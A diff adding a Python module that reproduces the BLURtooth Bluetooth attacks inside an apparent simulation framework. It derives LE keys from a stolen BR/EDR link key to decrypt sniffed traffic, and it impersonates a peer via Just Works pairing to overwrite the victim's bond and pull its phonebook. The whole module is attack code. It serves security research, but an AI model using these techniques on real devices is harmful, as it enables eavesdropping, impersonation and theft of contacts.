@@ -1,0 +1,285 @@
+"""BLURtooth: cross-transport key-derivation pivots (Antonioli et al.).
+
+CTKD (Vol 3 Part H §2.4.2.4/.5) exists so a dual-mode pair only pairs
+once: the key of one transport converts into the key of the other via
+the one-way h6/h7 functions.  That convenience is exactly what turns a
+single stolen key into compromise of *both* stacks:
+
+* **BR/EDR → LE** (:class:`LeOfflineDecryptor` + :func:`derive_le_ltk`)
+  — a BLAP-extracted BR/EDR link key runs through h7/h6 and becomes,
+  byte for byte, the LE LTK the victims derived themselves.  Every
+  sniffed LE session encrypted under that LTK falls to offline
+  decryption, and the attacker can impersonate either end over LE.
+* **LE → BR/EDR** (:func:`run_le_to_bredr_pivot`) — the attacker
+  Just-Works-pairs over LE (no user interaction on a NoInputNoOutput
+  claim), negotiates the LinkKey distribution bit, and the victim's own
+  CTKD overwrites its *authenticated* BR/EDR bond with key material the
+  attacker controls.
+
+Both build on :mod:`repro.ble` and the same :class:`AirCapture`
+passive-sniffer model the E0 eavesdropping attack uses.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+from typing import List, Optional, Tuple
+
+from repro.attacks.eavesdrop import AirCapture, CapturedFrame
+from repro.ble.pdus import LeDataPdu, LlEncReq, LlEncRsp
+from repro.core.errors import AttackError
+from repro.core.types import BdAddr, LinkKey
+from repro.crypto.aes import aes_ccm_decrypt
+from repro.crypto.smp import le_ltk_from_bredr_link_key, le_session_key
+
+
+def derive_le_ltk(link_key: LinkKey, ct2: bool = True) -> LinkKey:
+    """The BR/EDR→LE conversion, on :class:`LinkKey` wrappers."""
+    return LinkKey(le_ltk_from_bredr_link_key(link_key.value, ct2=ct2))
+
+
+@dataclass
+class LeSessionCrypto:
+    """The LL encryption parameters recovered from a capture."""
+
+    link_id: int
+    central_name: str
+    session_key: bytes
+    iv: bytes
+
+
+class LeOfflineDecryptor:
+    """Decrypt captured LE traffic given a candidate LTK.
+
+    Mirrors :class:`repro.attacks.eavesdrop.OfflineDecryptor` for the
+    LE transport: the LL_ENC_REQ/LL_ENC_RSP exchange travels in the
+    clear, so a passive capture plus the LTK reproduces the session key
+    ``e(LTK, SKDm || SKDs)`` and the CCM nonces exactly as both
+    endpoints did.
+    """
+
+    def __init__(self, capture: AirCapture, ltk: LinkKey) -> None:
+        self.capture = capture
+        self.ltk = ltk
+
+    def _le_control_frames(self, pdu_type: type) -> List[CapturedFrame]:
+        return [
+            captured
+            for captured in self.capture.frames
+            if captured.frame.kind == "le-control"
+            and isinstance(captured.frame.payload, pdu_type)
+        ]
+
+    def encrypted_le_frames(self, link_id: int) -> List[CapturedFrame]:
+        return [
+            captured
+            for captured in self.capture.frames
+            if captured.frame.kind == "le-data"
+            and captured.frame.encrypted
+            and captured.link_id == link_id
+        ]
+
+    def derive_session(self) -> LeSessionCrypto:
+        """Rebuild the session key from the sniffed SKD/IV exchange."""
+        enc_reqs = self._le_control_frames(LlEncReq)
+        if not enc_reqs:
+            raise AttackError("capture lacks an LL_ENC_REQ")
+        req = enc_reqs[-1]
+        responses = [
+            captured
+            for captured in self._le_control_frames(LlEncRsp)
+            if captured.link_id == req.link_id and captured.time >= req.time
+        ]
+        if not responses:
+            raise AttackError("capture lacks the matching LL_ENC_RSP")
+        rsp = responses[0]
+        skd_m, iv_m = req.frame.payload.skd_m, req.frame.payload.iv_m
+        skd_s, iv_s = rsp.frame.payload.skd_s, rsp.frame.payload.iv_s
+        return LeSessionCrypto(
+            link_id=req.link_id,
+            central_name=req.sender,
+            session_key=le_session_key(self.ltk.value, skd_m, skd_s),
+            iv=iv_m + iv_s,
+        )
+
+    def decrypt_all(self) -> List[Optional[bytes]]:
+        """CCM-decrypt every captured LE data frame on the session's link.
+
+        Entries are ``None`` where the MIC check fails — with the right
+        LTK that never happens, with a wrong key it always does, which
+        is the scenario's negative control.
+        """
+        session = self.derive_session()
+        plaintexts: List[Optional[bytes]] = []
+        counters = {True: 0, False: 0}
+        for captured in self.encrypted_le_frames(session.link_id):
+            from_central = captured.sender == session.central_name
+            nonce = (
+                counters[from_central].to_bytes(4, "big")
+                + (b"\x01" if from_central else b"\x00")
+                + session.iv
+            )
+            counters[from_central] += 1
+            payload = captured.frame.payload
+            data = payload.payload if isinstance(payload, LeDataPdu) else payload
+            plaintexts.append(
+                aes_ccm_decrypt(session.session_key, nonce, data)
+            )
+        return plaintexts
+
+    def try_wrong_key(self, wrong_key: LinkKey) -> List[Optional[bytes]]:
+        return LeOfflineDecryptor(self.capture, wrong_key).decrypt_all()
+
+
+@dataclass
+class BlurtoothReport:
+    """What a cross-transport pivot achieved."""
+
+    direction: str  # "bredr-to-le" | "le-to-bredr"
+    derived_key: Optional[LinkKey] = None
+    #: derived key equals the victim's own CTKD output, byte for byte
+    key_matches_victim: bool = False
+    #: sniffed LE traffic decrypted with the derived key
+    decrypted_payloads: List[bytes] = field(default_factory=list)
+    #: negative control: a wrong key yields no valid plaintext
+    wrong_key_rejected: bool = False
+    #: LE→BR/EDR only: the victim's BR/EDR bond was replaced
+    overwrote_bredr_bond: bool = False
+    prior_key_type: int = 0
+    new_key_type: int = 0
+    #: the attacker completed a BR/EDR connection with the pivoted key
+    bredr_pivot_success: bool = False
+    detail: dict = field(default_factory=dict)
+
+    @property
+    def success(self) -> bool:
+        if self.direction == "bredr-to-le":
+            return bool(
+                self.key_matches_victim
+                and self.decrypted_payloads
+                and self.wrong_key_rejected
+            )
+        return self.overwrote_bredr_bond
+
+
+def run_le_to_bredr_pivot(
+    world: "object",
+    attacker: "object",
+    victim_m: "object",
+    victim_c: "object",
+    ct2: bool = True,
+) -> BlurtoothReport:
+    """The reverse BLURtooth pivot: Just Works LE pairing → BR/EDR bond.
+
+    The attacker claims C's identity address over LE and a
+    NoInputNoOutput IO capability, so M pairs Just Works — no popup, no
+    comparison.  Both sides negotiate the LinkKey distribution bit and
+    M's *own* CTKD overwrites its authenticated BR/EDR bond for C with
+    key material derived from the attacker-controlled pairing.  The
+    attacker then derives the same BR/EDR key, installs it as fake
+    bonding (the paper's Fig. 10 primitive) and walks into an
+    authenticated BR/EDR session.
+    """
+    from repro.attacks.attacker import Attacker
+    from repro.core.types import IoCapability
+    from repro.crypto.smp import bredr_link_key_from_le_ltk
+
+    report = BlurtoothReport(direction="le-to-bredr")
+    prior = victim_m.host.security.bond_for(victim_c.bd_addr)
+    prior_key = prior.link_key if prior is not None else None
+    report.prior_key_type = prior.key_type if prior is not None else 0
+
+    # -- LE impersonation: become C, claim no IO, pair Just Works ---------
+    attacker.ble.power_on(advertise=False)
+    attacker.ble.set_le_addr(victim_c.bd_addr)
+    attacker.ble.io_capability = IoCapability.NO_INPUT_NO_OUTPUT
+    attacker.ble.ctkd_enabled = True
+    connect_op = attacker.ble.connect(victim_m.bd_addr)
+    world.run_for(12.0)
+    if not connect_op.success:
+        report.detail["error"] = "le_connect_failed"
+        return report
+    pair_op = attacker.ble.pair(victim_m.bd_addr)
+    world.run_for(5.0)
+    if not pair_op.success:
+        report.detail["error"] = "le_pairing_failed"
+        return report
+    report.detail["association"] = pair_op.result
+    ltk = attacker.host.security.le_ltk_for(victim_m.bd_addr)
+    report.derived_key = LinkKey(
+        bredr_link_key_from_le_ltk(ltk.value, ct2=ct2)
+    )
+
+    # -- did M's CTKD overwrite the BR/EDR bond? --------------------------
+    record = victim_m.host.security.bond_for(victim_c.bd_addr)
+    new_key = record.link_key if record is not None else None
+    report.new_key_type = record.key_type if record is not None else 0
+    report.overwrote_bredr_bond = bool(
+        prior_key is not None and new_key is not None and new_key != prior_key
+    )
+    report.key_matches_victim = new_key == report.derived_key
+
+    # -- pivot to BR/EDR with the cross-derived key -----------------------
+    attacker.ble.disconnect(victim_m.bd_addr)
+    world.run_for(1.0)
+    world.set_in_range(victim_c, victim_m, False)
+    victim_c.host.gap.set_scan_mode(connectable=False, discoverable=False)
+    attacker.host.drop_link_key_requests = False
+    attacker_ctl = Attacker(attacker)
+    attacker_ctl.spoof_identity(
+        victim_c.bd_addr,
+        class_of_device=victim_c.controller.class_of_device,
+        name=victim_c.controller.local_name,
+    )
+    attacker_ctl.install_fake_bonding(
+        victim_m.bd_addr, report.derived_key, name=victim_m.controller.local_name
+    )
+    world.run_for(0.5)
+    pbap_op = attacker.host.pbap.pull_phonebook(victim_m.bd_addr)
+    world.run_for(15.0)
+    report.bredr_pivot_success = bool(pbap_op.success)
+    if pbap_op.success:
+        report.detail["phonebook_entries"] = len(pbap_op.result)
+    return report
+
+
+def run_bredr_to_le_pivot(
+    capture: AirCapture,
+    extracted_key: LinkKey,
+    victim: "object",
+    victim_peer_addr: BdAddr,
+    ct2: bool = True,
+) -> BlurtoothReport:
+    """Convert a stolen BR/EDR link key and attack the LE transport.
+
+    ``victim`` is the device whose stored LE LTK we compare against
+    (the ground truth the golden test pins); the capture holds the LE
+    session the victims ran among themselves.
+    """
+    ltk = derive_le_ltk(extracted_key, ct2=ct2)
+    victim_record = victim.host.security.bond_for(victim_peer_addr)
+    victim_ltk = victim_record.ltk if victim_record is not None else None
+    report = BlurtoothReport(
+        direction="bredr-to-le",
+        derived_key=ltk,
+        key_matches_victim=victim_ltk is not None and victim_ltk == ltk,
+    )
+    decryptor = LeOfflineDecryptor(capture, ltk)
+    try:
+        plaintexts = decryptor.decrypt_all()
+    except AttackError as exc:
+        report.detail["decrypt_error"] = str(exc)
+        return report
+    report.decrypted_payloads = [p for p in plaintexts if p is not None]
+    wrong = LinkKey(bytes(b ^ 0xFF for b in ltk.value))
+    try:
+        wrong_out = decryptor.try_wrong_key(wrong)
+        report.wrong_key_rejected = all(p is None for p in wrong_out)
+    except AttackError:
+        report.wrong_key_rejected = True
+    report.detail.update(
+        frames_captured=len(capture.frames),
+        payloads_recovered=len(report.decrypted_payloads),
+        ct2=ct2,
+    )
+    return report
